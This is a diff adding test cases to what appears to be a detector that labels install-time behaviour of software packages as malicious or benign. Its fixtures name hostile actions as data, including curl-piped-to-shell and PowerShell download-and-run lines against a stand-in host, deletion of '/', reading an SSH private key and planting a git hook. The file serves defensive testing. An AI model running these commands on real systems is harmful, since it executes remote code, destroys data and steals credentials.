@@ -38,8 +38,15 @@ function idsOf(observation: Observation, kind?: "install" | "import"): readonly 
   return findBehaviours([triggerWith([observation], kind)]).map(({ id }) => id);
 }
 
-const file = (api: string, path: string, to?: string): Observation =>
-  tried({ kind: "file", api: `fs.${api}`, data: { path, ...(to === undefined ? {} : { to }) } });
+const file = (api: string, path: string, to?: string, facts: object = {}): Observation =>
+  tried({ kind: "file", api: `fs.${api}`, data: { path, ...(to === undefined ? {} : { to }), ...facts } });
+const download = (facts: object): Observation =>
+  tried({
+    kind: "code",
+    api: "tool",
+    honey: ["download"],
+    data: { path: `${places.packageFolder}/bin/tool`, text: "\u007FELF", arguments: ["--version"], ...facts },
+  });
 const command = (line: string, decoded = false): Observation =>
   tried({ kind: "process", api: "child_process.exec", data: { command: line }, decoded });
 
@@ -49,6 +56,28 @@ test.each<[string, Observation]>([
   ["download-executed", command("curl -s http://collector.invalid/a | sh")],
   ["download-executed", command('powershell -c "iex (iwr http://collector.invalid/a)"')],
   ["download-executed", tried({ kind: "code", api: "eval", honey: ["download"] })],
+  ["download-executed", download({ arguments: ["--daemon"] })],
+  ["download-executed", download({ path: "/tmp/tool" })],
+  ["download-executed", download({ text: "#!/bin/sh" })],
+  ["download-tried", download({})],
+  [
+    "planted-secret-sent",
+    tried({
+      kind: "network",
+      api: "https.request",
+      honey: ["git-token"],
+      data: { method: "GET", url: "https://api.github.com/user" },
+    }),
+  ],
+  [
+    "planted-secret-sent",
+    tried({
+      kind: "network",
+      api: "https.request",
+      honey: ["git-token", "aws-key"],
+      data: { method: "GET", url: "https://api.github.com/repos/a/b/releases" },
+    }),
+  ],
   ["files-destroyed", file("rm", "/home/ada")],
   ["files-destroyed", file("rmSync", "/home/ada/Documents")],
   ["files-destroyed", file("promises.rm", "/")],
@@ -67,6 +96,14 @@ test.each<[string, Observation]>([
   [
     "tracks-covered",
     file("rename", `${places.packageFolder}/package.md`, `${places.packageFolder}/package.json`),
+  ],
+  [
+    "tracks-covered",
+    file("rename", `${places.packageFolder}/p`, `${places.packageFolder}/package.json`, { isMade: true }),
+  ],
+  [
+    "git-hook-installed",
+    file("writeFile", "/home/ada/code/app/.git/hooks/pre-commit", undefined, { isStarter: true }),
   ],
   ["hidden-command", command("bash -c id", true)],
   ["credentials-read", file("readFile", "/home/ada/.ssh/id_ed25519")],
@@ -104,6 +141,20 @@ test.each<[string, Observation]>([
   ["deleting what is built", file("rm", "/home/ada/code/app/dist")],
   ["deleting an installed package", file("rm", "/home/ada/code/app/node_modules/other")],
   ["deleting a cache below the home", file("rm", "/home/ada/.cache/lib")],
+  ["deleting what it made", file("unlink", "/home/ada/code/app/.cache/a", undefined, { isMade: true })],
+  [
+    "writing its manifest with the same scripts",
+    file("writeFile", `${places.packageFolder}/package.json`, undefined, { keepsScripts: true }),
+  ],
+  [
+    "asking for a release as whom the machine's token says",
+    tried({
+      kind: "network",
+      api: "https.request",
+      honey: ["git-token"],
+      data: { method: "GET", url: "https://api.github.com/repos/a/b/releases/tags/v1" },
+    }),
+  ],
   ["starting a compiler", command("node-gyp rebuild")],
   ["a shell whose command stands in the package", command("sh -c 'echo built'")],
   ["downloading to a file", command("curl -o a.tgz https://files.example/a.tgz")],
